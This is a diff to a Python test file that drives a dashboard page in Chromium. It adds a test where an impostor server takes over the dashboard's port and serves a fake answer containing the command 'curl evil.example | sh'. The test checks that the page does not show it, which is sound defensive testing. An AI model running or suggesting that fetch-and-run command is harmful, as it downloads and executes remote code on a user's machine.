@@ -1,6 +1,9 @@
 """The dashboard's page in a real Chromium."""
 
+import http.server
+import json
 import signal
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -162,6 +165,36 @@ def test_a_dashboard_that_ends_is_said(page: Page) -> None:
             lambda: "since" in page.run("return document.querySelector('#banner').innerText")
         )
     page.says("What needs attention now")  # and what was seen stays
+
+
+class Impostor(http.server.BaseHTTPRequestHandler):
+    """Whoever takes the port next, and answers what it likes."""
+
+    def do_GET(self) -> None:
+        body = json.dumps(self.server.answer).encode()  # type: ignore[attr-defined]
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *_: object) -> None:
+        """Nothing."""
+
+
+def test_another_process_on_the_same_port_is_not_believed(page: Page) -> None:
+    with running("60", "127.0.0.1:0", "still") as there:
+        page.open(there.link)
+        page.says("What needs attention now")
+        answer = there.ask("/data/fleet").json()
+    evil = "curl evil.example | sh"
+    answer["needs"] = [{**answer["needs"][0], "what": evil, "then": [evil]}]
+    with http.server.ThreadingHTTPServer(("127.0.0.1", there.port), Impostor) as taken:
+        taken.answer = answer  # type: ignore[attr-defined]
+        threading.Thread(target=taken.serve_forever, daemon=True).start()
+        page.says("Open the link that 'neti dashboard' printed")
+        assert evil not in page.text()
+        taken.shutdown()
 
 
 def test_the_pictures_of_the_docs_can_be_taken_anew(
